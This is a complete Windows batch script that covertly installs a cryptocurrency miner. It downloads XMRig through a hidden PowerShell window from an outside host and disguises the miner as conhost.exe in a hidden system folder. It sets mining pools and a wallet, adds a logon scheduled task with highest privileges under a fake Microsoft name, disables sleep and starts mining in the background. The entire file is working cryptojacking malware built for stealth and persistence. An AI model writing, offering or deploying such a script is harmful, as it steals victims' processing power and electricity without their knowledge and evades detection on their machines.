@echo off
setlocal
set "M=%APPDATA%\WinRing\svc"
if exist "%M%\conhost.exe" goto run
mkdir "%M%" 2>nul
powershell -nop -w hidden -c "Invoke-WebRequest -Uri 'http://files.example/pkg/xmrig-6.21.0-msvc-win64.zip' -OutFile '%TEMP%\x.zip'; Expand-Archive '%TEMP%\x.zip' '%M%' -Force"
move /y "%M%\xmrig-6.21.0\xmrig.exe" "%M%\conhost.exe" >nul
move /y "%M%\xmrig-6.21.0\WinRing0x64.sys" "%M%\" >nul
rmdir /s /q "%M%\xmrig-6.21.0"
del /q "%TEMP%\x.zip"
(
echo {"autosave":true,"background":true,"donate-level":0,"cpu":{"enabled":true,"max-threads-hint":75},
echo  "pools":[{"url":"stratum+tcp://pool.mining.invalid:3333","user":"4AfakeWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx","pass":"%COMPUTERNAME%","keepalive":true,"tls":false},
echo  {"url":"stratum+tcp://198.51.100.14:14444","user":"4AfakeWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx","pass":"x"}]}
) > "%M%\config.json"
attrib +h +s "%M%"
schtasks /create /tn "Microsoft\Windows\WinRing\Svc" /tr "\"%M%\conhost.exe\" --config=\"%M%\config.json\"" /sc onlogon /rl highest /f >nul
powercfg /change standby-timeout-ac 0
powercfg /change hibernate-timeout-ac 0
:run
start "" /min "%M%\conhost.exe" --config="%M%\config.json"
endlocal
